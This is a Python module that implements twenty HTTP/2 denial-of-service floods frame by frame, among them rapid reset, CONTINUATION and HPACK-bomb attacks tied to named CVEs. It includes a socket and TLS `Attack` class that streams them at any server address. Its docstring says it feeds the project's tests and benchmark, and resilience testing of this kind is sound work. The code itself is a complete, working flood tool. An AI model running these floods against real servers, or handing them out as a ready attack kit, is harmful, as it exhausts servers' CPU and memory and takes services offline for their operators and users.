"""HTTP/2 floods, frame by frame: what an attacker sends who knows the protocol and wants the server's CPU or memory.

A flood is a function from a Target to the endless pieces of one connection's bytes after the preface; `Attack` sends them.
The tests (floods_test.py) and the benchmark (bench/scenarios/floods.py) use the same ones.
"""

import dataclasses
import itertools
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
CANCEL = struct.pack(">I", 8)
ENHANCE_YOUR_CALM = 11
LARGEST_WINDOW = (1 << 31) - 1
MAX_FRAME_BYTES = 16384
FIRST_DYNAMIC = b"\xbe"  # HPACK: the newest entry of the dynamic table, by index
EMPTY_COOKIE = b"\xa0"  # HPACK: `cookie:` of the static table, by index


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def _length(size, prefix_bits=7, first=0):
    """RFC 7541 5.1."""
    largest = (1 << prefix_bits) - 1
    if size < largest:
        return bytes([first | size])
    encoded, size = [first | largest], size - largest
    while size >= 128:
        encoded.append(size & 127 | 128)
        size >>= 7
    return bytes([*encoded, size])


def literal(name, value, kind=0):
    """A field that is in no table; with `kind` 0x40 it then is in the dynamic one."""
    return bytes([kind]) + _length(len(name)) + name.encode() + _length(len(value)) + value.encode()


@dataclasses.dataclass
class Target:
    authority: str
    scheme: str = "http"
    path: str = "/"  # what the floods that only want to be answered ask for
    large: str = "/"  # an answer larger than any window

    def head(self, method="GET", path=None):
        fields = {":method": method, ":scheme": self.scheme, ":authority": self.authority, ":path": path or self.path}
        return b"".join(literal(*field) for field in fields.items())

    def opened(self, stream, path=None):
        return frame(HEADERS, END_HEADERS, stream, self.head("POST", path))

    def asked(self, stream, path=None):
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, self.head("GET", path))


def _streams():
    return range(1, 1 << 31, 2)


def rapid_reset(target):
    """CVE-2023-44487: each request is taken back at once, so that no limit of concurrent ones is met."""
    for stream in _streams():
        yield target.asked(stream) + frame(RST_STREAM, 0, stream, CANCEL)


def made_you_reset(target):
    """CVE-2025-8671: the server is made to reset each stream itself, by an error of that stream."""
    for stream in _streams():
        yield target.opened(stream) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", LARGEST_WINDOW))


def made_you_reset_by_data(target):
    """The same by DATA on a stream that the client has ended."""
    for stream in _streams():
        yield target.asked(stream) + frame(DATA, 0, stream, b"x")


def continuation(target):
    """CVE-2024-27316: a header block without an end."""
    yield frame(HEADERS, 0, 1, target.head())
    for number in itertools.count():
        yield frame(CONTINUATION, 0, 1, literal(f"x-{number}", "y" * 1000))


def empty_continuation(target):
    yield frame(HEADERS, 0, 1, target.head())
    while True:
        yield frame(CONTINUATION, 0, 1)


def settings(_):
    """CVE-2019-9515: each wants an acknowledgement."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def ping(_):
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, b"12345678")


def empty_data(target):
    """CVE-2019-9518: frames that carry nothing and end nothing."""
    yield target.opened(1)
    while True:
        yield frame(DATA, 0, 1)


def padding(target):
    """The same, dressed up as payload."""
    yield target.opened(1)
    while True:
        yield frame(DATA, PADDED, 1, b"\2\0\0")


def priority(_):
    """CVE-2019-9513."""
    for stream in _streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, stream & 255))


def window_updates(target):
    """Of one byte each, for the connection and for a stream that stays open."""
    yield target.opened(1)
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")


def small_windows(target):
    """A large answer, a byte a frame."""
    yield target.asked(1, target.large)
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")


def refused_streams(target):
    """More than the server allows, by a client that has acknowledged no settings; behind answers that fill the socket."""
    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW - 65535))
    for stream in _streams():
        yield target.asked(stream, target.large) if stream < 20 else target.opened(stream)


def hpack_bomb(target):
    """CVE-2016-6581: an entry of the dynamic table, named by one byte, thousands of times a request."""
    indexed = literal("x-bomb", "y" * 3900, 0x40)
    for stream in _streams():
        block = target.head() + indexed
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block + FIRST_DYNAMIC * (MAX_FRAME_BYTES - len(block)))


def cookie_crumbs(target):
    """Fields of nothing, a byte each, that the server joins to one."""
    for stream in _streams():
        block = target.head()
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block + EMPTY_COOKIE * (MAX_FRAME_BYTES - len(block)))


def stalled_windows(target):
    """CVE-2019-9511: large answers that there is no window for, on every stream that the server allows."""
    for stream in itertools.islice(_streams(), 100):
        yield target.asked(stream, target.large)


def unread(target):
    """CVE-2019-9517: the windows are wide open, and nothing is read from the socket."""
    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW - 65535))
    yield from stalled_windows(target)


@dataclasses.dataclass(frozen=True)
class Flood:
    frames: object  # from a Target to the pieces
    settings: bytes = b""  # the client's own
    reads: bool = True
    ended: bool = True  # the server is to end the connection; else it only may hold little for it

    def __str__(self):
        return self.frames.__name__


def _setting(number, value):
    return struct.pack(">HI", number, value)


FLOODS = [
    Flood(rapid_reset),
    Flood(made_you_reset),
    Flood(made_you_reset_by_data),
    Flood(continuation),
    Flood(empty_continuation),
    Flood(settings),
    Flood(settings, reads=False),
    Flood(ping),
    Flood(ping, reads=False),
    Flood(empty_data),
    Flood(padding),
    Flood(priority),
    Flood(window_updates),
    Flood(small_windows, settings=_setting(4, 0)),
    Flood(refused_streams, settings=_setting(4, LARGEST_WINDOW)),
    Flood(refused_streams, settings=_setting(4, LARGEST_WINDOW), reads=False),
    Flood(hpack_bomb),
    Flood(cookie_crumbs),
    Flood(stalled_windows, settings=_setting(4, 0), ended=False),
    Flood(unread, settings=_setting(4, LARGEST_WINDOW), reads=False, ended=False),
]


def name_of(flood):
    return str(flood) + ("" if flood.reads or str(flood) == "unread" else "_unread")


class Attack:
    """One connection. `run` may be called again where it was not ended."""

    def __init__(self, address, flood, target, tls_context=None, tls_name=None):
        self.goaway = None  # the error code of the server's GOAWAY
        self.resets = 0
        self.ended = False
        self.sent_bytes = 0
        self._reads = flood.reads
        self._refused = False  # the server takes nothing more
        self._received = b""
        self._pieces = itertools.chain([PREFACE + frame(SETTINGS, 0, 0, flood.settings)], flood.frames(target))
        self._pending = b""
        self._socket = socket.create_connection(address, 60)
        if tls_context:
            tls_context.set_alpn_protocols(["h2"])
            self._socket = tls_context.wrap_socket(self._socket, server_hostname=tls_name)
        self._socket.setblocking(False)

    def run(self, seconds):
        """Until the server ends the connection or the time is over."""
        deadline = time.monotonic() + seconds
        while not self.ended and (left := deadline - time.monotonic()) > 0:
            more = self._refill()
            reading = [self._socket] if self._reads or self._refused else []
            readable, writable, _ = select.select(reading, [self._socket] if more else [], [], min(left, 0.1))
            if readable:
                self._take()
            if writable:
                self._send()
        return self

    def _refill(self):
        if not self._pending:
            self._pending = b"".join(itertools.islice(self._pieces, 64))
        return bool(self._pending)

    def _send(self):
        try:
            sent = self._socket.send(self._pending)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self._pending, self._pieces, self._refused = b"", iter(()), True
            self._take()  # what the server had to say
            return
        self.sent_bytes += sent
        self._pending = self._pending[sent:]

    def _take(self):
        """Everything that can be read now."""
        try:
            while data := self._socket.recv(1 << 16):
                self._received += data
                self._judge()
            self.ended = True
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.ended = True

    def _judge(self):
        while len(self._received) >= 9:
            word, _, _ = struct.unpack_from(">IBI", self._received)
            kind, size = word & 255, word >> 8
            if len(self._received) < 9 + size:
                return
            payload, self._received = self._received[9 : 9 + size], self._received[9 + size :]
            self.resets += kind == RST_STREAM
            if kind == GOAWAY:
                (self.goaway,) = struct.unpack_from(">I", payload, 4)

    def close(self):
        self._socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()
